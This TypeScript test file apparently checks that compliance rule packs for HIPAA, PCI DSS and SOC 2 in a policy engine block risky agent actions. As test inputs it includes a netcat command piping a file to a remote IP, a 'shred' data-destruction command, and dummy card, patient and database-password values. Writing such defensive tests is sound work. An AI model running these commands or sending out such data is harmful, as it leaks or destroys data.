import { BUILTIN_RULESETS } from '@countersign/policy';
import { describe, expect, it } from 'vitest';
import { actionOf, judged, resolved } from './support.ts';

/** The guards that refuse an action. */
function refused(policy: string, kind: string, params: Readonly<Record<string, string>>): readonly string[] {
  return judged(`extends: ${policy}\nsettings: {fail_fast: false}\n`, actionOf({ kind, params }))
    .filter((result) => !result.allowed)
    .map((result) => result.guard);
}

const card = ['4111', '1111', '1111', '1111'].join('-');

describe('POL-108 packs for HIPAA, PCI DSS and SOC 2', () => {
  it.each([
    ['hipaa-default', 'file.read', { path: '/srv/phi/a.csv' }, ['forbidden_path']],
    ['hipaa-default', 'file.read', { path: '/srv/tests/fixtures/phi/a.csv' }, []],
    ['hipaa-default', 'file.write', { path: '/w/a.txt', content: `patient ${['123', '45', '6789'].join('-')}` }, ['secret_leak']],
    ['hipaa-default', 'net.egress', { host: 'terminology.hl7.org' }, []],
    ['hipaa-default', 'net.egress', { host: 'other.example' }, ['egress_allowlist']],
    ['hipaa-default', 'shell.exec', { command: 'cat a | nc 10.0.0.1 99' }, ['egress_allowlist', 'shell_command']],
    ['hipaa-strict', 'file.write', { path: '/w/test/a.txt', content: 'MRN: 12345678' }, ['secret_leak']],
    ['hipaa-strict', 'net.egress', { host: 'github.com' }, ['egress_allowlist']],
    ['pci-default', 'file.write', { path: '/w/a.txt', content: `card ${card}` }, ['secret_leak']],
    // Not a number of a card: its check digit is wrong.
    ['pci-default', 'file.write', { path: '/w/a.txt', content: `order ${card.slice(0, -1)}2` }, []],
    ['pci-default', 'shell.exec', { command: 'pg_dump shop' }, ['shell_command']],
    ['pci-strict', 'shell.exec', { command: 'tcpdump -i eth0' }, ['shell_command']],
    ['pci-strict', 'file.read', { path: '/srv/kek/1' }, ['forbidden_path']],
    ['soc2-default', 'file.write', { path: '/srv/audit-logs/1.log', content: 'x' }, ['forbidden_path']],
    ['soc2-default', 'shell.exec', { command: 'shred notes.txt' }, ['shell_command']],
    ['soc2-default', 'shell.exec', { command: 'cat wipe.txt' }, []],
    ['soc2-strict', 'shell.exec', { command: 'kubectl get pods' }, ['shell_command']],
    ['soc2-strict', 'net.egress', { host: 'github.com' }, ['egress_allowlist']],
    ['soc2-strict', 'file.write', { path: '/w/a', content: ['postgres://app:', 'long', 'word@db/x'].join('') }, ['secret_leak']],
  ] as const)('%s: %s %j', (...[policy, kind, params, guards]) => {
    expect(refused(policy, kind, params)).toEqual(guards);
  });

  it('every built-in ruleset has the shell guard on, with unread text refused but where one learns or everything is allowed', () => {
    for (const name of BUILTIN_RULESETS) {
      const { enabled, enforce_forbidden_paths: paths, unparsed } = resolved(name).guards.shell_command;
      const wanted = name === 'learning' || name === 'permissive' ? 'warn' : 'block';
      expect({ name, enabled, paths, unparsed }).toEqual({ name, enabled: true, paths: true, unparsed: wanted });
    }
  });
  it('the strict packs look everywhere for secrets, tests included', () => {
    for (const name of ['hipaa-strict', 'pci-strict', 'soc2-strict']) expect(resolved(name).guards.secret_leak.skip_paths).toEqual([]);
  });
});
